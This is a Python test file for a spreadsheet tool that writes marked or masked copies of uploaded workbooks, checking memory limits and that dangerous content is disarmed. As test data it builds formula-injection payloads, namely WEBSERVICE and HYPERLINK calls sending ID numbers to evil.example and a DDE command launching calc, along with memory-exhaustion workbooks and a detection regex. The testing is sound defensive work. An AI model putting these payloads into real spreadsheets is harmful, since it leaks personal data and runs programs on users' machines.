"""The marked copy of a hostile workbook costs the server no more than reading it does."""

import io
import re
import time
import zipfile
from uuid import UUID

import openpyxl
import pytest
import xlsxwriter

from roster.sheets.error_copy import write_error_copy, write_masked
from roster.sheets.marks import MarkedCell, MarkedSheet
from roster.sheets.reader import read_workbook
from tests.sheets.test_hostile import SHEET, merges, peak
from tests.sheets.test_reader import book, repacked, write, zipped

BATCH = UUID(int=7)
MARKS = MarkedSheet(1, 3, {"C3": MarkedCell(["Số CCCD sai."], holds_back=True)}, {3: ["Số CCCD sai."]}, {})
_CELLS = "".join(f'<c r="{letter}{{0}}" s="0"/>' for letter in "ABCDEFGH")
BLANK = "".join(f'<row r="{n}">{_CELLS.format(n)}</row>' for n in range(10, 100_000))
HOSTILE = {
    "blank styled cells": lambda xml: xml.replace(b"</sheetData>", BLANK.encode() + b"</sheetData>"),
    "a merge over all": merges("A5:XFD1048576"),  # few cells in the file, endless ones in memory: the child dies of it
}


@pytest.fixture
def bounded(monkeypatch):
    """No workbook is opened in this process, and it grows little."""

    def load_workbook(*args, **kwargs):
        raise AssertionError("opened in the server itself")

    monkeypatch.setattr("openpyxl.load_workbook", load_workbook)
    before, begun = peak(), time.monotonic()
    yield
    assert peak() - before < 100 and time.monotonic() - begun < 60


def opened(file):
    file.seek(0)
    return openpyxl.open(file).active  # an alias that the fixture leaves alone


@pytest.mark.parametrize("kind", HOSTILE)
def test_marks_come_without_the_look_where_the_look_would_fill_the_memory(kind, tmp_path, bounded):
    path = write(tmp_path, repacked(book(), SHEET, HOSTILE[kind]))
    file = io.BytesIO()
    assert write_error_copy(path, read_workbook(path), {"Sheet": MARKS}, BATCH, file) == ".xlsx"
    sheet = opened(file)
    assert (sheet["B3"].value, sheet["C3"].comment.text, sheet["D3"].value) == (
        "Lê Văn Bình", "Số CCCD sai.", "Số CCCD sai.",
    )  # fmt: skip


@pytest.mark.parametrize("kind", HOSTILE)
def test_masks_come_without_the_look_where_the_look_would_fill_the_memory(kind, tmp_path, bounded):
    path = write(tmp_path, repacked(book(), SHEET, HOSTILE[kind]))
    file = io.BytesIO()
    assert write_masked(path, read_workbook(path), {"Sheet": {"B3": "Đã xếp"}}, file) == ".xlsx"
    sheet = opened(file)
    assert (sheet["B2"].value, sheet["B3"].value) == ("Nguyễn Văn Khoa", "Đã xếp")


def test_a_sound_workbook_keeps_its_look_though_another_process_marks_it(tmp_path, bounded):
    path = write(tmp_path, book(lambda sheet: setattr(sheet["B2"], "font", openpyxl.styles.Font(name="Arial", b=True))))
    file = io.BytesIO()
    assert write_error_copy(path, read_workbook(path), {"Sheet": MARKS}, BATCH, file) == ".xlsx"
    sheet = opened(file)
    assert sheet["B2"].font.b and sheet["C3"].fill.fgColor.rgb == "00FFC7CE" and sheet["D1"].value == "LỖI"


def acting():
    """A workbook that sends what stands in it elsewhere, or starts a program, in each way that Excel knows."""
    steal, file = '=WEBSERVICE("http://evil.example/?"&C2)', io.BytesIO()
    with xlsxwriter.Workbook(file) as made:
        sheet = made.add_worksheet("Sheet")
        for row, values in enumerate([["STT", "Họ và tên", "Số CCCD"], ["1", "Lê Văn Bình", "031204111222"]]):
            sheet.write_row(row, 0, values)
        sheet.write_formula("E1", steal, None, "never")
        sheet.write_formula("H2", '=IF(A2="","x","")', None, "empty")
        sheet.write_formula("E2", "=cmd|'/c calc'!A0", None, 7)
        sheet.write_formula("F1", "=C2", None, "031204111222")
        sheet.write_formula("F2", '=HYPERLINK("http://evil.example/?"&C2,"Xem")', None, "=Xem")
        sheet.write_url("G2", "http://evil.example/", string="Xem")
        made.define_name("A", steal)
        sheet.conditional_format("B2", {"type": "formula", "criteria": steal})
        sheet.conditional_format("A2", {"type": "cell", "criteria": ">", "value": 1})
        sheet.data_validation("B2", {"validate": "custom", "value": steal})
        sheet.data_validation("A2", {"validate": "list", "source": ["Nam (1)", "Nữ (2)"]})
        sheet.data_validation("A3", {"validate": "list", "source": "=$H$1:$H$9"})
        sheet.add_table("J1:K3", {"columns": [{}, {"formula": steal}]})
    source = zipfile.ZipFile(file)
    parts = {name.replace("/", "__"): source.read(name) for name in source.namelist()}
    never = re.compile(rb' t="str">(<f>[^<]*</f>)<v>never</v>')
    xml = never.sub(rb">\1<v></v>", parts["xl__worksheets__sheet1.xml"])
    parts["xl__worksheets__sheet1.xml"] = xml.replace(b"<v>empty</v>", b"<v></v>")
    return zipped(**parts, **{"xl__vbaProject.bin": b"x"})


@pytest.mark.parametrize("task", ["mark", "mask"])
def test_nothing_in_a_copy_acts_and_each_formula_is_what_it_showed(task, tmp_path):
    path, file = write(tmp_path, acting(), "tep.xlsm"), io.BytesIO()
    cells = read_workbook(path)
    if task == "mark":
        assert write_error_copy(path, cells, {"Sheet": MARKS}, BATCH, file) == ".xlsx"
        assert "công thức đã được thay" in opened(file)["D1"].comment.text
    else:
        assert write_masked(path, cells, {"Sheet": {"B2": "Đã xếp"}}, file) == ".xlsx"
    sheet = opened(file)
    assert [sheet[place].value for place in ("E2", "F1", "F2", "G2", "H2")] == [7, "031204111222", "=Xem", "Xem", None]
    assert sheet["E1"].value.startswith("=WEBSERVICE")
    assert {(sheet[place].data_type, sheet[place].quotePrefix) for place in ("E1", "F2")} == {("s", True)}
    assert [one.formula1 for one in sheet.data_validations.dataValidation] == ['"Nam (1),Nữ (2)"', "$H$1:$H$9"]
    assert [str(one.sqref) for one in sheet.conditional_formatting] == ["A2"]
    with zipfile.ZipFile(file) as package:
        inside = {name: re.sub(rb"<t>.*?</t>", b"", package.read(name)) for name in package.namelist()}
    assert not [
        name for name, content in inside.items() if re.search(rb"evil|cmd\||<f[ />]|ormula>=?[A-Z]+\(", content)
    ]
    assert not any("vba" in name or "external" in name for name in inside)
